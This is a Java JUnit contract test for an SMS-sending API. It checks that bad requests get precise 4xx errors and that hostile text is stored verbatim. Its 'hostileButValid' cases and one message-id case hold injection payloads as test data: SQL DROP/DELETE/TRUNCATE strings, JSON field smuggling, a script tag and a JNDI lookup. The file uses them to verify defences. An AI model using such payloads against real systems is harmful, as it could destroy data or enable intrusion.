package org.sms1069.api.submit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sms1069.api.testing.ApiResponse;
import org.sms1069.api.testing.Phones;
import org.sms1069.api.testing.RunningApi;
import org.sms1069.api.testing.SignedRequest;
import org.sms1069.api.verification.TestApps;
import org.sms1069.testkit.TestInfra;

import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.sms1069.api.testing.Problems.assertProblem;

/**
 * Everything a client can get wrong in a correctly signed request: each answer is a 4xx problem with a
 * stable code and a precise detail, never a 500 and never internals. Hostile but valid text is
 * accepted and stored exactly as sent.
 */
class BadInputContractTest {
    private static final String SIGNATURE = "示例科技";
    private static final String SIGNED_TEXT = "【" + SIGNATURE + "】您的订单已发货。";
    /** Small enough to test cheaply, large enough for 1,001 phones (about 14 KB). */
    private static final int MAX_BODY = 16 * 1024;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String TYPES = "[VERIFICATION, NOTIFICATION, REMINDER, PUBLIC_WELFARE]";

    private static RunningApi api;
    private static RunningApi.TestApp app;

    @BeforeAll
    static void start() {
        api = RunningApi.start("sms.limits.max-body=" + MAX_BODY + "B");
        app = api.onboardApp("Bad input", "", SIGNATURE);
    }

    @AfterAll
    static void stop() {
        if (api != null) {
            api.close();
        }
    }

    /**
     * @param detail a part of the detail the client must see, so that it can tell what to fix
     */
    record BadInput(String name, SignedRequest request, int status, String code, String detail) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<BadInput> badSends() {
        String phone = Phones.unique("138");
        return Stream.of(
                bad("malformed JSON", raw("{\"phones\":[\"" + phone + "\"],\"text\":"),
                        400, "MALFORMED_REQUEST", "body is not valid JSON"),
                bad("JSON array instead of object", raw("[" + json(valid(phone)) + "]"),
                        400, "MALFORMED_REQUEST", "body is not valid JSON for this request: the body must be a JSON object"),
                bad("JSON string instead of object", raw("\"hello\""),
                        400, "MALFORMED_REQUEST", "the body must be a JSON object"),
                bad("JSON null", raw("null"), 400, "MALFORMED_REQUEST", "request body is missing: send a JSON object"),
                bad("empty body", raw(""), 400, "MALFORMED_REQUEST", "request body is missing: send a JSON object"),
                bad("phones as a string", send(with(valid(phone), "phones", phone)),
                        400, "MALFORMED_REQUEST", "field phones has the wrong type or format"),
                bad("type as a number", send(with(valid(phone), "type", 1)),
                        400, "MALFORMED_REQUEST", "field type must be one of " + TYPES),
                bad("text as an object", send(with(valid(phone), "text", Map.of("a", 1))),
                        400, "MALFORMED_REQUEST", "field text has the wrong type or format"),
                bad("unknown type", send(with(valid(phone), "type", "SPAM")),
                        400, "MALFORMED_REQUEST", "field type must be one of " + TYPES),
                bad("type in lower case", send(with(valid(phone), "type", "notification")),
                        400, "MALFORMED_REQUEST", "field type must be one of " + TYPES),
                bad("missing phones", send(without(valid(phone), "phones")),
                        400, "VALIDATION_FAILED", "[phones]"),
                bad("no phones", send(with(valid(phone), "phones", List.of())),
                        400, "VALIDATION_FAILED", "[phones"),
                bad("null phone", raw("{\"phones\":[null],\"text\":\"" + SIGNED_TEXT + "\",\"type\":\"NOTIFICATION\"}"),
                        400, "VALIDATION_FAILED", "[phones[0]]"),
                bad("missing text", send(without(valid(phone), "text")),
                        400, "VALIDATION_FAILED", "give either templateId (with params) or text"),
                bad("blank text", send(with(valid(phone), "text", " \t\n ")),
                        400, "VALIDATION_FAILED", "give either templateId (with params) or text"),
                bad("text and template", send(with(valid(phone), "templateId", "TPL1")),
                        400, "VALIDATION_FAILED", "give either templateId (with params) or text"),
                bad("missing type", send(without(valid(phone), "type")),
                        400, "VALIDATION_FAILED", "type is required with text"),
                bad("text of 501 characters with the signature", send(with(valid(phone), "text", SIGNED_TEXT
                                + "好".repeat(501 - SIGNED_TEXT.length()))),
                        400, "VALIDATION_FAILED", "text has 501 characters; at most 500 including the signature"),
                bad("text over 500 code points of emoji", send(with(valid(phone), "text", SIGNED_TEXT + "😀".repeat(500))),
                        400, "VALIDATION_FAILED", "at most 500 including the signature"),
                bad("1,001 phones", send(with(valid(phone), "phones",
                                IntStream.range(0, 1001).mapToObj(i -> Phones.unique("139")).toList())),
                        400, "VALIDATION_FAILED", "at most 1000 phones per request, got 1001"),
                bad("verification code to two phones", send(with(with(valid(phone), "type", "VERIFICATION"),
                                "phones", List.of(Phones.unique("138"), Phones.unique("138")))),
                        400, "VALIDATION_FAILED", "a verification code goes to exactly one phone"),
                bad("invalid UTF-8", SignedRequest.post("/v1/messages").body(invalidUtf8(phone)),
                        400, "MALFORMED_REQUEST", "(invalid UTF-8)"),
                bad("signature not approved", send(with(valid(phone), "text", "【别家公司】您的订单已发货。")),
                        422, "SIGNATURE_NOT_APPROVED", "signature 【别家公司】 is not an approved signature of this app"),
                bad("signature field and a different leading one", send(with(valid(phone), "signature", "别家公司")),
                        400, "VALIDATION_FAILED", "the text starts with signature 【" + SIGNATURE + "】 but signature is 别家公司"),
                bad("clientRef over 64 characters", send(with(valid(phone), "clientRef", "r".repeat(65))),
                        400, "VALIDATION_FAILED", "[clientRef]"),
                bad("validity zero", send(with(valid(phone), "validity", "PT0S")),
                        400, "VALIDATION_FAILED", "validity must be between PT1S and P3D"),
                bad("validity negative", send(with(valid(phone), "validity", "-PT1M")),
                        400, "VALIDATION_FAILED", "validity must be between PT1S and P3D"),
                bad("validity over 3 days", send(with(valid(phone), "validity", "P3DT1S")),
                        400, "VALIDATION_FAILED", "validity must be between PT1S and P3D"),
                bad("validity not a duration", send(with(valid(phone), "validity", "tomorrow")),
                        400, "MALFORMED_REQUEST", "field validity has the wrong type or format"),
                bad("sendAt over 7 days ahead", send(with(valid(phone), "sendAt",
                                java.time.Instant.now().plus(java.time.Duration.ofDays(8)).toString())),
                        400, "VALIDATION_FAILED", "sendAt may be at most 7 days ahead"),
                bad("inReplyTo not a number", send(with(valid(phone), "inReplyTo", "mo-5")),
                        400, "MALFORMED_REQUEST", "field inReplyTo has the wrong type or format"),
                bad("inReplyTo negative", send(with(valid(phone), "inReplyTo", -5)),
                        400, "VALIDATION_FAILED", "inReplyTo"),
                bad("inReplyTo no reply of the app", send(with(valid(phone), "inReplyTo", Long.MAX_VALUE)),
                        422, "MO_NOT_FOUND", "is no reply this app received"),
                bad("body over the limit", send(with(valid(phone), "clientRef", "x".repeat(MAX_BODY))),
                        413, "PAYLOAD_TOO_LARGE", "request body exceeds"),
                bad("chunked body over the limit", send(with(valid(phone), "clientRef", "x".repeat(MAX_BODY))).chunked(),
                        413, "PAYLOAD_TOO_LARGE", "request body exceeds"),
                bad("text/plain", send(valid(phone)).contentType("text/plain"),
                        415, "UNSUPPORTED_MEDIA_TYPE", "send the body as application/json"),
                bad("no content type", send(valid(phone)).contentType(null),
                        415, "UNSUPPORTED_MEDIA_TYPE", "send the body as application/json"),
                bad("form encoded", SignedRequest.post("/v1/messages").contentType("application/x-www-form-urlencoded")
                                .body("phones=" + phone + "&text=hi&type=NOTIFICATION"),
                        415, "UNSUPPORTED_MEDIA_TYPE", "send the body as application/json"),
                bad("deeply nested JSON", raw("{\"phones\":[\"" + phone + "\"],\"extra\":" + "[".repeat(5000) + "]".repeat(5000) + "}"),
                        400, "MALFORMED_REQUEST", "exceeds the parser's limits"),
                bad("malformed Idempotency-Key", send(valid(phone)).header("Idempotency-Key", "has spaces in it"),
                        400, "VALIDATION_FAILED", "Idempotency-Key must be"),
                bad("PUT on the collection", SignedRequest.of("PUT", "/v1/messages").body(json(valid(phone))),
                        405, "METHOD_NOT_ALLOWED", "method not allowed"),
                bad("unknown path", SignedRequest.get("/v1/nothing-here"), 404, "NOT_FOUND", "no such resource"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badSends")
    void badSendIsAClientProblem(BadInput input) {
        ApiResponse response = api.send(input.request().by(app.key()));

        JsonNode problem = assertProblem(response, input.status(), input.code());
        assertThat(problem.get("detail").asText()).contains(input.detail());
        assertThat(problem.get("instance").asText()).startsWith("/v1/");
    }

    @ParameterizedTest(name = "id ''{0}''")
    @ValueSource(strings = {"abc", "01ARZ3NDEKTSV4RRFFQ69G5FA", "01ARZ3NDEKTSV4RRFFQ69G5FAVV", "01arz3ndektsv4rrffq69g5fav",
            "01ARZ3NDEKTSV4RRFFQ69G5FAU", "01ARZ3NDEKTSV4RRFFQ69G5FA%2B", "%27%20OR%20%271%27%3D%271"})
    void malformedMessageIdIsRefused(String id) {
        ApiResponse response = api.send(SignedRequest.get("/v1/messages/" + id).by(app.key()));

        JsonNode problem = assertProblem(response, 400, "VALIDATION_FAILED");
        assertThat(problem.get("detail").asText()).isEqualTo("message id must be 26 characters of Crockford base32");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"{\"linkDomains\":[null]}", "{\"linkDomains\":\"example.com\"}", "{\"linkDomains\":[1.5e400]}",
            "{\"dailyQuota\":\"many\"}", "{\"codeAlphabet\":[\"a\"]}", "[null]"})
    void malformedSettingsAreAClientProblem(String body) {
        ApiResponse response = api.send(SignedRequest.of("PATCH", "/admin/v1/apps/" + app.appId()).body(body)
                .by(RunningApi.ADMIN));

        assertThat(response.status()).as(response.toString()).isEqualTo(400);
        assertThat(response.contentType()).isEqualTo("application/problem+json");
    }

    /** A query that is not valid percent-encoding cannot be signed: a 400, not a 500 (sent raw, no client would). */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"phone=%zz", "phone=%", "%G1=1"})
    void malformedPercentEncodingInTheQueryIsAClientProblem(String query) throws Exception {
        URI base = URI.create(api.baseUrl());
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(10_000);
            String request = "GET /v1/messages?" + query + " HTTP/1.1\r\nHost: " + base.getAuthority() + "\r\n"
                    + "X-Sms-Key-Id: " + app.key().keyId() + "\r\nX-Sms-Timestamp: " + System.currentTimeMillis() / 1000
                    + "\r\nX-Sms-Nonce: " + UUID.randomUUID() + "\r\nX-Sms-Signature: " + "0".repeat(64)
                    + "\r\nConnection: close\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

            assertThat(answer).startsWith("HTTP/1.1 400");
        }
    }

    /** The composed type decides: a VERIFICATION template sent without {@code type} goes to one phone only. */
    @Test
    void verificationTemplateWithoutTypeGoesToExactlyOnePhone() {
        String template = TestApps.approvedTemplate(api, app.appId(), "VERIFICATION", "您的验证码是${code}，5分钟内有效。");
        Map<String, Object> body = Map.of("phones", List.of(Phones.unique("138"), Phones.unique("139")),
                "templateId", template, "params", Map.of("code", "482913"), "signature", SIGNATURE);

        ApiResponse response = api.send(send(body).by(app.key()));

        JsonNode problem = assertProblem(response, 400, "VALIDATION_FAILED");
        assertThat(problem.get("detail").asText()).isEqualTo("a verification code goes to exactly one phone");
    }

    @Test
    void allPhonesInvalidListsEachWithItsReason() {
        List<String> phones = List.of("12345", "1440012345678", "+86 abc", "", "02088888888");

        ApiResponse response = api.send(send(with(valid("unused"), "phones", phones)).by(app.key()));

        JsonNode problem = assertProblem(response, 422, "NO_VALID_RECIPIENT");
        assertThat(problem.get("detail").asText()).isEqualTo("none of the phones can receive this message");
        List<String> listed = new ArrayList<>();
        problem.get("rejected").forEach(r -> {
            listed.add(r.get("phone").asText());
            assertThat(r.get("reason").asText()).as("reason for %s", r).isNotBlank();
        });
        assertThat(listed).containsExactlyElementsOf(phones);
        assertThat(problem.get("rejected").get(1).get("reason").asText()).isEqualTo("13-digit IoT numbers cannot receive SMS");
    }

    @Test
    void duplicatePhonesAreOneRecipient() {
        String phone = Phones.unique("138");

        ApiResponse response = api.send(send(with(valid(phone), "phones", List.of(phone, "+86 " + phone, "0086-" + phone)))
                .by(app.key()));

        assertThat(response.status()).as(response.toString()).isEqualTo(202);
        assertThat(response.json().get("messages")).hasSize(1);
        assertThat(response.json().get("rejected")).hasSize(2);
        response.json().get("rejected").forEach(r ->
                assertThat(r.get("reason").asText()).isEqualTo("duplicate of an earlier phone in this request"));
    }

    record Hostile(String name, String text, String clientRef) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Hostile> hostileButValid() {
        return Stream.of(
                new Hostile("SQL injection", "'); DROP TABLE messages; --", "x' OR '1'='1"),
                new Hostile("SQL comment and semicolon", "1; DELETE FROM apps WHERE '1'='1'; /*", "'; TRUNCATE api_keys; --"),
                new Hostile("JSON injection", "\",\"type\":\"VERIFICATION\",\"phones\":[\"13800138000\"],\"x\":\"",
                        "\"},{\"appId\":\"other\""),
                new Hostile("backslashes and escapes", "C:\\temp\\n \\u0022 \\\" {}[]", "\\\\\"\\u0000"),
                new Hostile("markup", "<script>alert(1)</script>${jndi:ldap://x/a}", "<b>&amp;</b>"),
                new Hostile("emoji and RTL", "验证 😀👍🏽 \u202Eabc", "ref-😀"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileButValid")
    void hostileTextIsStoredVerbatim(Hostile hostile) throws SQLException {
        String phone = Phones.unique("138");
        Map<String, Object> body = with(with(valid(phone), "text", "【" + SIGNATURE + "】" + hostile.text()),
                "clientRef", hostile.clientRef());

        ApiResponse sent = api.send(send(body).by(app.key()));

        assertThat(sent.status()).as(sent.toString()).isEqualTo(202);
        JsonNode accepted = sent.json().get("messages");
        assertThat(accepted).hasSize(1);
        assertThat(accepted.get(0).get("phone").asText()).isEqualTo(phone);
        String id = accepted.get(0).get("messageId").asText();

        ApiResponse status = api.send(SignedRequest.get("/v1/messages/" + id).by(app.key()));
        assertThat(status.status()).as(status.toString()).isEqualTo(200);
        assertThat(status.json().get("clientRef").asText()).isEqualTo(hostile.clientRef());
        assertThat(status.json().get("type").asText()).isEqualTo("NOTIFICATION");
        assertThat(status.json().get("phone").asText()).isEqualTo(phone);

        Map<String, String> stored = storedRow(id);
        assertThat(stored).containsEntry("text", "【" + SIGNATURE + "】" + hostile.text())
                .containsEntry("client_ref", hostile.clientRef())
                .containsEntry("type", "NOTIFICATION")
                .containsEntry("app_id", app.appId());
        assertThat(count("SELECT count(*) FROM apps") + count("SELECT count(*) FROM api_keys")).isPositive();
    }

    @ParameterizedTest(name = "NUL in {0}")
    @ValueSource(strings = {"text", "clientRef"})
    void nulCharacterIsRefusedNotA500(String field) {
        String phone = Phones.unique("138");
        Map<String, Object> body = valid(phone);
        body.put(field, field.equals("text") ? SIGNED_TEXT + "\u0000" : "ref\u0000");

        ApiResponse response = api.send(send(body).by(app.key()));

        JsonNode problem = assertProblem(response, 400, "VALIDATION_FAILED");
        assertThat(problem.get("detail").asText()).isEqualTo("request fields are invalid: [" + field + "]");
        assertThat(problem.get("errors").get(field).asText()).isEqualTo("must not contain the NUL character (U+0000)");
    }

    private static Map<String, String> storedRow(String id) throws SQLException {
        try (Connection db = DriverManager.getConnection(TestInfra.jdbcUrl(), TestInfra.postgresUser(), "");
             PreparedStatement select = db.prepareStatement(
                     "SELECT text, client_ref, type, app_id FROM " + api.schema() + ".messages WHERE id = ?")) {
            select.setString(1, id);
            try (ResultSet row = select.executeQuery()) {
                assertThat(row.next()).as("message %s is stored", id).isTrue();
                Map<String, String> values = new LinkedHashMap<>();
                for (String column : List.of("text", "client_ref", "type", "app_id")) {
                    values.put(column, row.getString(column));
                }
                return values;
            }
        }
    }

    private static long count(String sql) throws SQLException {
        try (Connection db = DriverManager.getConnection(TestInfra.jdbcUrl(), TestInfra.postgresUser(), "");
             ResultSet result = db.createStatement().executeQuery(sql.replace("FROM ", "FROM " + api.schema() + "."))) {
            result.next();
            return result.getLong(1);
        }
    }

    private static BadInput bad(String name, SignedRequest request, int status, String code, String detail) {
        return new BadInput(name, request, status, code, detail);
    }

    private static Map<String, Object> valid(String phone) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("phones", List.of(phone));
        body.put("text", SIGNED_TEXT);
        body.put("type", "NOTIFICATION");
        return body;
    }

    private static Map<String, Object> with(Map<String, Object> body, String field, Object value) {
        Map<String, Object> copy = new LinkedHashMap<>(body);
        copy.put(field, value);
        return copy;
    }

    private static Map<String, Object> without(Map<String, Object> body, String field) {
        Map<String, Object> copy = new LinkedHashMap<>(body);
        copy.remove(field);
        return copy;
    }

    private static SignedRequest send(Map<String, Object> body) {
        return SignedRequest.post("/v1/messages").body(json(body));
    }

    private static SignedRequest raw(String body) {
        return SignedRequest.post("/v1/messages").body(body);
    }

    private static byte[] json(Object body) {
        try {
            return JSON.writeValueAsBytes(body);
        } catch (Exception e) {
            throw new IllegalArgumentException(e);
        }
    }

    /** A valid request except for one byte sequence that is not UTF-8: a lone continuation byte. */
    private static byte[] invalidUtf8(String phone) {
        byte[] head = ("{\"phones\":[\"" + phone + "\"],\"text\":\"【" + SIGNATURE + "】abc").getBytes(StandardCharsets.UTF_8);
        byte[] tail = "def\",\"type\":\"NOTIFICATION\"}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[head.length + 2 + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        body[head.length] = (byte) 0xC3;
        body[head.length + 1] = (byte) 0x28;
        System.arraycopy(tail, 0, body, head.length + 2, tail.length);
        return body;
    }
}
